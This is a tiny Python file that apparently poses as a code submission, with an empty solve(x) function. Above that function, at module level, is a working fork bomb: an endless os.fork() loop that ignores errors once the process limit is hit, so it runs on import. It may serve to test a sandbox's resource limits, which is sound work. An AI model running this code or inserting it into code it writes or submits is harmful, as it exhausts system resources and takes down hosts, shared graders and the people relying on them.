# Forks for ever, ignoring the errors once the process limit is reached.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass


def solve(x):
    pass
